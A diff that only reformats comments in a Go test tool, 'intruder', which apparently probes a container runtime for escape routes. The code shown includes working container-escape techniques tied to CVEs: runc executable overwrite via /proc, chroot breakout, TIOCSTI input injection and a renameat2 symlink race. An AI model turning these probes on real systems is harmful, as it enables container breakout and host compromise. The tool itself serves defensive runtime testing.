@@ -1,4 +1,5 @@
-// Command intruder tries one way out of a container, for scripts/attacks.sh. It prints "GOT IN" and what it got, or why not.
+// Command intruder tries one way out of a container, for scripts/attacks.sh. It prints "GOT IN"
+// and what it got, or why not.
 //
 //	intruder NAME [ARG...]
 package main
@@ -42,23 +43,28 @@ func main() {
 	fmt.Println("GOT IN:", got)
 }
 
-// overwriteExe waits for a process of the runtime to show up in here and opens its program for writing (CVE-2019-5736).
-// It does not write, and a program that runs at the moment (ETXTBSY) counts: the attacker would hold it open and wait.
+// overwriteExe waits for a process of the runtime to show up in here and opens its program for
+// writing (CVE-2019-5736). It does not write, and a program that runs at the moment (ETXTBSY)
+// counts: the attacker would hold it open and wait.
 func overwriteExe(args []string) (string, error) {
 	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
 		return "", err
 	}
+
 	own, err := os.Stat("/proc/self/exe")
 	if err != nil {
 		return "", err
 	}
+
 	stopped := fmt.Errorf("no process of the runtime was seen")
 	held := map[string]*os.File{}
+
 	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
 		programs, err := filepath.Glob("/proc/[0-9]*/exe")
 		if err != nil {
 			return "", err
 		}
+
 		for _, exe := range programs {
 			file, err := os.Open(exe)
 			if err != nil {
@@ -74,8 +80,10 @@ func overwriteExe(args []string) (string, error) {
 				file.Close()
 				continue
 			}
+
 			held[link] = file
 		}
+
 		for link, file := range held {
 			writable, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
 			if err == nil {
@@ -87,10 +95,12 @@ func overwriteExe(args []string) (string, error) {
 			stopped = fmt.Errorf("%s: %w", link, err)
 		}
 	}
+
 	return "", stopped
 }
 
-// protected tells whether a file cannot be written to whenever: its mount is read-only, or it is sealed (memfd_create(2)).
+// protected tells whether a file cannot be written to whenever: its mount is read-only, or it is
+// sealed (memfd_create(2)).
 func protected(file *os.File) bool {
 	var fs unix.Statfs_t
 	if err := unix.Fstatfs(int(file.Fd()), &fs); err == nil && fs.Flags&unix.ST_RDONLY != 0 {
@@ -125,6 +135,7 @@ func escapeChroot(args []string) (string, error) {
 	if err := syscall.Chroot("/tmp/hole"); err != nil {
 		return "", err
 	}
+
 	for i := 0; i < 100; i++ {
 		if err := syscall.Chdir(".."); err != nil {
 			return "", err
@@ -133,11 +144,13 @@ func escapeChroot(args []string) (string, error) {
 	if err := syscall.Chroot("."); err != nil {
 		return "", err
 	}
+
 	text, err := os.ReadFile(args[0])
 	return string(bytes.TrimSpace(text)), err
 }
 
-// peek looks into every process that comes into the container, and through its descriptors (CVE-2016-9962).
+// peek looks into every process that comes into the container, and through its descriptors
+// (CVE-2016-9962).
 func peek(args []string) (string, error) {
 	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
 		return "", err
@@ -156,7 +169,8 @@ func peek(args []string) (string, error) {
 	return "", fmt.Errorf("no descriptor led outside")
 }
 
-// pushInput types into the terminal that it has, as if a person did: whoever reads next executes it (TIOCSTI, CVE-2016-2568).
+// pushInput types into the terminal that it has, as if a person did: whoever reads next executes
+// it (TIOCSTI, CVE-2016-2568).
 func pushInput([]string) (string, error) {
 	for _, key := range []byte("GOT IN\n") {
 		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&key))); errno != 0 {
@@ -166,7 +180,8 @@ func pushInput([]string) (string, error) {
 	return "a line into this terminal", nil
 }
 
-// inheritable finds capabilities that a program with file capabilities would get from an ordinary user (CVE-2022-24769).
+// inheritable finds capabilities that a program with file capabilities would get from an ordinary
+// user (CVE-2022-24769).
 func inheritable([]string) (string, error) {
 	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
 	var data [2]unix.CapUserData
@@ -187,7 +202,8 @@ func becomeRoot([]string) (string, error) {
 	return "root", nil
 }
 
-// swap exchanges a directory and a symbolic link, as fast as it can, until it is killed (CVE-2018-15664, CVE-2021-30465).
+// swap exchanges a directory and a symbolic link, as fast as it can, until it is killed
+// (CVE-2018-15664, CVE-2021-30465).
 func swap(args []string) (string, error) {
 	for {
 		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
